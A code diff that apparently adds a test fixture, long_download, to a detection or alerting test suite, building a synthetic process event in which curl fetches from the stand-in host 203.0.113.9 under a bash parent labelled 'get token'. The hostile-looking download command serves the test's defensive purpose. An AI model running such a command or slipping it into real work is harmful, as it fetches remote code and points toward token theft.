@@ -132,6 +132,15 @@ def row(world: World, words: int = 14, user: str = HOSTILE) -> Alert:
     return raised(world, [event], ROW)
 
 
+def long_download(world: World, argument: str) -> Alert:
+    """The alert of a download whose command line is as long as one likes."""
+    event = _process(
+        world.now - timedelta(minutes=2), "curl", f"curl -s http://203.0.113.9/i {argument}",
+        process__parent__args=["bash"], process__parent__command_line="get token",
+    )  # fmt: skip
+    return raised(world, [event], ROW)
+
+
 def window(world: World) -> Alert:
     """The alert of the longest command of several."""
     at = world.now - timedelta(minutes=2)
